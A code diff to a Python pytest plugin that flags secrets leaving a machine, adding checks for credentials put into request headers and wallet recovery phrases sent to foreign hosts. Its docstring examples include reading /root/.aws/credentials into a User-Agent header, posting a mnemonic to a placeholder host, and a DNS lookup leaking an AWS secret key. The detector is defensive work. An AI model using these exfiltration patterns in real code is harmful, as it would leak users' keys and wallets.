@@ -3,14 +3,14 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections.abc import Iterable, Iterator
 from typing import TYPE_CHECKING
 
 from pytest_selfmod_guard import paths
 from pytest_selfmod_guard.model import Risk
 from pytest_selfmod_guard.rules import Sighting, python_rule
 from pytest_selfmod_guard.rules.danger._flow_marks import Mark
-from pytest_selfmod_guard.rules.danger._flow_words import SENDERS
+from pytest_selfmod_guard.rules.danger._flow_words import SENDERS, concerns
 
 if TYPE_CHECKING:
     from pytest_selfmod_guard.rules.danger._flow import Flow
@@ -43,15 +43,16 @@ _OWNERS = re.compile(
     "and what other programs keep out of it; to log in, hand a token "
     "to the service that issued it, "
     "by a header",
-    triggers=SENDERS,
+    triggers=(*SENDERS, b"headers"),
 )
 def secrets_sent_out(python: Python) -> Iterable[Sighting]:
     """
     Secrets leave the machine: the environment, key files, what browsers keep.
 
     The value that is sent is followed back through assignments, formatting,
-    loops, files and functions of the file. A token in a header, and one handed
-    to the service that issued it, is silent.
+    loops, files and functions of the file. A token in a header that says who
+    asks, and one handed to the service that issued it, is silent; so is a
+    password that goes to a log-in.
 
     Flagged: the whole environment
         === shop/stats.py
@@ -77,6 +78,27 @@ def secrets_sent_out(python: Python) -> Iterable[Sighting]:
         === shop/stats.py
           import os, socket
         + socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".example.invalid")
+
+    Flagged: keys under another name, in every request
+        === shop/mail.py
+          import configparser, requests
+        + keys = configparser.ConfigParser()
+        + keys.read("/root/.aws/credentials")
+        + session = requests.Session()
+        + session.headers["User-Agent"] = "shop/" + keys["default"]["aws_secret_access_key"]
+
+    Flagged: the words of a wallet
+        === shop/mail.py
+          import requests
+        + def check(mnemonic):
+        +     requests.post("https://wallets.example.invalid/check", json={"words": mnemonic})
+
+    Allowed: a log-in
+        === shop/mail.py
+          import getpass, requests
+        + def login(user):
+        +     sent = {"user": user, "password": getpass.getpass()}
+        +     requests.post("https://shop.example.com/login", json=sent)
 
     Allowed: a token for the service that issued it
         === shop/release.py
@@ -112,6 +134,7 @@ def secrets_sent_out(python: Python) -> Iterable[Sighting]:
                 send.call.scope,
                 risk=risk,
             )
+    yield from _handed(known)
 
 
 def _is_wide(send: Send) -> bool:
@@ -132,6 +155,8 @@ def _what(flow: Flow, send: Send, *, copied: bool) -> tuple[str, Risk]:
         (copied and read, "a file, where keys are copied into files,", Risk.HIGH),
         (send.loud & Mark.METADATA, "the question for a cloud machine's own keys", Risk.HIGH),
         (_is_let_out(flow, send, anywhere=anywhere), "a secret of the environment", Risk.HIGH),
+        (_are_shown(flow, send), "a file of keys or accounts, in a header,", Risk.HIGH),
+        (*_of_people(flow, send, anywhere=anywhere), Risk.HIGH),
     )
     what, risk = next(((said, worth) for seen, said, worth in every if seen), ("", Risk.NONE))
     return what, max(risk, Risk.CRITICAL) if what and anywhere else risk
@@ -142,6 +167,44 @@ def _is_let_out(flow: Flow, send: Send, *, anywhere: bool) -> bool:
     if send.loud & Mark.SECRET and (anywhere or send.is_lookup):
         return True
     return bool(send.loud & Mark.POWER) and _is_foreign(flow, send)
+
+
+def _are_shown(flow: Flow, send: Send) -> bool:
+    """Tell whether a key file is shown to a host that has not issued it."""
+    is_file = send.headers & (Mark.FILE | Mark.OUTPUT)
+    return bool(send.headers & Mark.KEYS and is_file) and _is_foreign(flow, send)
+
+
+def _of_people(flow: Flow, send: Send, *, anywhere: bool) -> tuple[bool, str]:
+    """Tell whether what people keep in their heads or key rings goes to a stranger."""
+    from pytest_selfmod_guard.rules.danger._flow_phrases import (  # noqa: PLC0415 (imports libcst)
+        has_password,
+        phrase_sent,
+    )
+
+    what = phrase_sent(flow, send) if anywhere or _is_foreign(flow, send) else ""
+    is_typed = anywhere and has_password(flow, send)
+    return bool(what) or is_typed, what or "a password"
+
+
+def _handed(flow: Flow) -> Iterator[Sighting]:
+    """Look at what a client is told to send along with everything."""
+    from pytest_selfmod_guard.rules.danger._flow_headers import (  # noqa: PLC0415 (imports libcst)
+        handed_over,
+    )
+
+    if not concerns(flow.python, (*SENDERS, b"headers")):
+        return
+    for handed in handed_over(flow):
+        is_file = bool(handed.loud & (Mark.FILE | Mark.OUTPUT))
+        wide = handed.loud & (Mark.ENVIRONMENT | Mark.VAULT | Mark.METADATA | Mark.POWER)
+        if wide or (is_file and handed.loud & (Mark.KEYS | Mark.STORE)):
+            yield Sighting(
+                flow.python.line(handed.node),
+                "a secret is sent along with every request from here on",
+                flow.python.code(handed.node),
+                risk=Risk.MEDIUM if paths.zone(flow.python.path) == paths.TEST else Risk.HIGH,
+            )
 
 
 def _takes_path(send: Send) -> bool:
